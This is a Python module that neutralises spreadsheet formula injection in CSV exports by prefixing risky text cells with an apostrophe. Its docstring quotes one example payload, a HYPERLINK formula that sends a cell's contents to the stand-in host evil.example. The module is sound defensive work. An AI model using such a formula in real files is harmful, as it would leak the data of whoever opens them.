"""CSV files Relais writes for people to open in a spreadsheet.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return) is read by
spreadsheets as a formula: a volunteer who names themselves
`=HYPERLINK("http://evil.example/?"&A1,"click")` would run it on the organizer's machine.
Following OWASP's advice, such text cells get a leading `'` so they show as typed. A cell
that is only a number (a phone number in E.164, a negative count) computes nothing and
stays as it is.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet shows it without evaluating it; numbers stay numbers."""
    if (
        isinstance(value, str)
        and value.startswith(_FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SafeWriter:
    """A `csv.writer` whose text cells can never become formulas."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
